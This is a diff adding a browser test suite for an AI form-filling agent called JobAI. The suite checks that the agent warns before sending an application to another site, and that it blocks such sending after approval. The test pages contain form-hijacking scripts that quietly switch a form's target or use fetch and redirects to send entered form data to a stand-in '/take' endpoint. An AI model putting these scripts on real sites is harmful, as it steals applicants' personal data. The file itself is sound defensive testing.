@@ -1,0 +1,161 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
+import { apply } from '../apply-harness.ts';
+import { openBrowser } from '../open-browser.ts';
+import { asPage, QUESTIONS, serveSites } from './serve-site.ts';
+
+// Starting a browser on a busy machine takes longer than a test may.
+vi.setConfig({ testTimeout: 90_000, hookTimeout: 90_000 });
+const browser = openBrowser();
+let sites: Awaited<ReturnType<typeof serveSites>>;
+beforeAll(async () => {
+  sites = await serveSites();
+  await browser.warmUp();
+});
+beforeEach(() => {
+  sites.arrived.length = 0;
+});
+afterAll(async () => {
+  await browser.close();
+  await sites.close();
+});
+
+const other = () => sites.other;
+
+describe('where a form goes', () => {
+  it.each([
+    [
+      'action',
+      () =>
+        `<form action="${other()}/take" method="post">${QUESTIONS}<button>Submit application</button></form>`,
+    ],
+    [
+      'formaction',
+      () =>
+        `<form action="/receive" method="post">${QUESTIONS}<button formaction="${other()}/take">Submit application</button></form>`,
+    ],
+  ])('is shown, warned of, and only then sent there (%s)', async (_what, form) => {
+    const url = sites.page('/declared', asPage(form()));
+    const { reviews, report } = await apply(browser.host, { url });
+    expect(reviews[0]).toMatchObject({
+      origin: other(),
+      origins: expect.arrayContaining([sites.own, other()]),
+    });
+    expect(reviews[0]?.warnings.join()).toContain(`goes to ${new URL(other()).host}`);
+    expect(report.submitted).toBe('confirmed');
+    expect(sites.sent()).toHaveLength(1);
+  });
+
+  const form = `<form id="f" action="/receive" method="post">${QUESTIONS}<button id="go">Submit application</button></form>`;
+  it.each([
+    ['onsubmit', () => `${form}<script>f.onsubmit = () => { f.action = '${other()}/take'; }</script>`],
+    ['mousedown', () => `${form}<script>go.onmousedown = () => { f.action = '${other()}/take'; }</script>`],
+    ['a timer', () => `${form}<script>setTimeout(() => { f.action = '${other()}/take'; }, 2500)</script>`],
+    [
+      'javascript:',
+      () =>
+        `<form id="f" action="javascript:void fetch('${other()}/take',{method:'POST',mode:'no-cors',body:new URLSearchParams(new FormData(f))})" method="post">${QUESTIONS}<button>Submit application</button></form>`,
+    ],
+    [
+      'fetch',
+      () =>
+        `${form}<script>f.onsubmit = (event) => { event.preventDefault(); fetch('${other()}/take', { method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(f)) }); }</script>`,
+    ],
+    [
+      'an address',
+      () =>
+        `${form}<script>f.onsubmit = (event) => { event.preventDefault(); location.href = '${other()}/take?' + new URLSearchParams(new FormData(f)); }</script>`,
+    ],
+  ])('never becomes another one after the approval (%s)', async (_what, page) => {
+    const url = sites.page('/changes', asPage(page()));
+    const { report } = await apply(browser.host, {
+      url,
+      confirmationMs: 2000,
+      hooks: {
+        review: async (question) => {
+          await new Promise((resolve) => setTimeout(resolve, 1500));
+          // A person who stops at whatever looks odd.
+          if (question.warnings.length > 0) return { decision: 'stop' };
+          return { decision: 'submit', formHash: question.formHash };
+        },
+      },
+    });
+    expect(sites.leaked()).toEqual([]);
+    expect(report.submitted).toBe(false);
+  });
+
+  it('ends as unknown where the site hands the application on to another one', async () => {
+    sites.page('/hands-on', (_request, response) =>
+      response.writeHead(307, { location: `${other()}/take` }).end(),
+    );
+    const url = sites.page(
+      '/redirected',
+      asPage(`<form action="/hands-on" method="post">${QUESTIONS}<button>Submit application</button></form>`),
+    );
+    const { report, journal } = await apply(browser.host, { url, confirmationMs: 2500 });
+    expect(sites.leaked()).toEqual([]);
+    expect(journal).toEqual(['armed', 'unknown']);
+    expect(report.submitted).toBe('unknown');
+  });
+});
+
+describe('a posting that leads to another site', () => {
+  it.each([
+    ['meta refresh', () => asPage('', `<meta http-equiv="refresh" content="0; url=${other()}/there">`)],
+    ['script', () => asPage(`<script>location.href = '${other()}/there'</script>`)],
+  ])('is told before anything is sent, and has no drafts of it (%s)', async (_what, page) => {
+    sites.page(
+      'other /there',
+      asPage(
+        `<form action="/take" method="post" oninput="fetch('/draft', { method: 'POST', body: new URLSearchParams(new FormData(this)) })">${QUESTIONS}<button>Submit application</button></form>`,
+      ),
+    );
+    const url = sites.page('/leads-away', page());
+    const { reviews } = await apply(browser.host, {
+      url,
+      hooks: { review: async () => ({ decision: 'stop' }) },
+    });
+    expect(reviews).toEqual([]);
+    const seen: string[] = [];
+    await apply(browser.host, {
+      url,
+      hooks: {
+        review: async ({ warnings, origin }) => {
+          seen.push(origin, ...warnings);
+          return { decision: 'stop' };
+        },
+      },
+    });
+    expect(seen[0]).toBe(other());
+    expect(seen.join()).toContain(`its form is at ${new URL(other()).host}`);
+    expect(sites.leaked()).toEqual([]);
+  });
+});
+
+describe('a frame of another site', () => {
+  const page = () =>
+    asPage(
+      `${QUESTIONS.replaceAll('required', '')}<iframe src="${other()}/frame" width="600" height="400"></iframe><button>Submit application</button>`,
+    );
+  it('is not filled in without leave, and is shown', async () => {
+    sites.page(
+      'other /frame',
+      asPage(
+        '<form><label>Phone <input name="phone" type="tel"></label><label>City <input name="city"></label></form>',
+      ),
+    );
+    const url = sites.page('/framed', page());
+    const { asked, report } = await apply(browser.host, { url, canSubmit: false });
+    expect(asked.flat().map(({ label }) => label)).toContain(
+      `A part of this form belongs to ${new URL(other()).host}. May JobAI fill it in there?`,
+    );
+    const phone = report.fields.find(({ label }) => label === 'Phone');
+    expect(phone).toMatchObject({ status: 'left-to-user', readBack: null });
+  });
+
+  it('is filled in with leave', async () => {
+    const url = sites.page('/framed', page());
+    const question = `A part of this form belongs to ${new URL(other()).host}. May JobAI fill it in there?`;
+    const { report } = await apply(browser.host, { url, canSubmit: false, says: { [question]: 'Yes' } });
+    expect(report.fields.find(({ label }) => label === 'Phone')).toMatchObject({ status: 'filled' });
+  });
+});
